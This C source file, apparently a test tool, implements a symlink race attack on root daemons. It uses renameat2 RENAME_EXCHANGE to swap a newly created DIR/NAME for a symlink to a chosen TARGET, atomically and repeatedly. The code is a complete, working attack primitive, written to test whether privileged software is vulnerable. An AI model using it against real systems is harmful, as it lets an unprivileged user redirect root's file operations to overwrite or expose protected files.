/* link-swapper.c: test tool: a user who owns DIR swaps DIR/NAME, the moment it appears, for a symbolic link to TARGET. */
/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Usage: link-swapper DIR NAME TARGET
 * The attack on a root daemon that creates DIR/NAME and then acts on it by its
 * path: spinning on renameat2(RENAME_EXCHANGE), it swaps a prepared link
 * DIR/.link -> TARGET with DIR/NAME as soon as NAME exists, atomically, so that
 * the name is never missing in between.  What it swapped out is moved aside to
 * DIR/.taken-N, a fresh link is made, and it waits until someone removes the
 * link at NAME before it spins again.  Run it as the user who owns DIR (not
 * sticky).  Prints "ready" once spinning; on SIGTERM prints "swaps=N" and exits.
 */
#include <err.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#define LINK	".link"

static volatile sig_atomic_t stop;

static void stop_cb(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	unsigned long swaps = 0;
	char aside[64];
	struct stat sb;
	int dfd;

	if (argc != 4)
		errx(2, "usage: link-swapper DIR NAME TARGET");
	dfd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (dfd < 0)
		err(1, "%s", argv[1]);
	if (symlinkat(argv[3], dfd, LINK))
		err(1, "symlink %s/%s", argv[1], LINK);
	signal(SIGTERM, stop_cb);
	fprintf(stderr, "ready\n");
	while (!stop) {
		if (renameat2(dfd, LINK, dfd, argv[2], RENAME_EXCHANGE))
			continue;	/* NAME is not there (yet) */
		snprintf(aside, sizeof(aside), ".taken-%lu", ++swaps);
		if (renameat(dfd, LINK, dfd, aside) || symlinkat(argv[3], dfd, LINK))
			err(1, "cannot set the next link up in %s", argv[1]);
		while (!stop && fstatat(dfd, argv[2], &sb, AT_SYMLINK_NOFOLLOW) == 0 && S_ISLNK(sb.st_mode))
			usleep(100);
	}
	printf("swaps=%lu\n", swaps);
	return 0;
}
